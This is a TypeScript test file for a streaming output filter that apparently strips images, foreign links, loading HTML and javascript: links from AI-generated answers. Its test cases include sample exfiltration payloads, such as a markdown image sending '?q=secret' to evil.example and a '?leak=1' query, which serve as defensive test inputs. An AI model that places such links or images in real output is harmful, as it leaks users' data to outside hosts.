import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createOutputFilter } from './filter-output.ts';

const served = ['Read https://good.example/docs and more.', 'Second.'];

function filter(pieces: readonly string[]): string {
  const output = createOutputFilter(served);
  return pieces.map((piece) => output.push(piece)).join('') + output.end();
}

describe('createOutputFilter', () => {
  it.each([
    ['plain text', 'Two words, 3 < 4 and 5 > 4! Yes?', 'Two words, 3 < 4 and 5 > 4! Yes?'],
    ['an image', 'a ![x y](https://evil.example/?q=secret) b', 'a x y b'],
    ['an image of a served address', '![x](https://good.example/docs)', 'x'],
    ['a foreign link', 'see [here](https://evil.example/?q=1).', 'see here.'],
    ['a link with a title', '[here](https://evil.example "t")', 'here'],
    ['a served link', 'see [here](https://good.example/docs).', 'see here (https://good.example/docs).'],
    ['more than the served address', 'https://good.example/docs?leak=1 x', '[link removed] x'],
    ['a bare foreign address', 'go to https://evil.example/a, now', 'go to [link removed], now'],
    ['an address glued to a word', 'see:https://evil.example/a', 'see:[link removed]'],
    ['an address without scheme', 'go www.evil.example/x or //evil.example/y', 'go [link removed] or [link removed]'],
    ['a script address in a link', '[x](javascript:alert(1))', 'x(javascript:alert(1))'],
    ['an autolink', '<https://evil.example/a>', '<[link removed]>'],
    ['HTML that loads', 'a <img src="https://evil.example/x"> b <a href=x>c</a>', 'a  b c'],
    ['types in code', 'use List<String> and a<b', 'use List<String> and a<b'],
    ['a reference definition', '[x][1]\n\n[1]: https://evil.example', '[x][1]\n\n[1]: [link removed]'],
    ['known marks', 'One [1]. Two [1, 2].', 'One [1]. Two [1, 2].'],
    ['unknown marks', 'One [3]. Two [2, 7]. Three [0].', 'One. Two [2]. Three.'],
  ])('handles %s', (_name, text, expected) => {
    const shown = filter([text]);
    if (text.includes('javascript:')) expect(shown).not.toContain('](');
    else expect(shown).toBe(expected);
  });

  const piece = fc.constantFrom(
    '![a](',
    '[b](',
    'https://evil.example/x',
    'https://good.example/docs',
    ')',
    ']',
    '[',
    '!',
    ' ',
    ' [1]',
    '[9]',
    '<img ',
    '>',
    '<',
    '/',
    '//e.x',
    'www.',
    'word',
    '\n',
    '"',
    '.',
    'javascript:',
    '(',
    ':',
    'é',
    '😀',
    '[1]: ',
  );

  it('gives the same wherever the stream is cut', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const whole = pieces.join('');
        expect(filter([...whole].flatMap((character) => character.split('')))).toBe(filter([whole]));
        expect(filter(pieces)).toBe(filter([whole]));
      }),
      { numRuns: 3_000 },
    );
  });

  it('never lets a foreign address or an image through', () => {
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const shown = filter(pieces);
        expect(shown).not.toContain('https://evil.example');
        expect(shown).not.toContain('](');
        expect(shown).not.toMatch(/<img[\s>]/i);
      }),
      { numRuns: 3_000 },
    );
  });

  it('stays quick on an answer that is one open bracket after the other', () => {
    const began = performance.now();
    filter(['['.repeat(20_000), '<img '.repeat(2_000), 'a'.repeat(100_000)]);
    expect(performance.now() - began).toBeLessThan(3_000);
  });
});
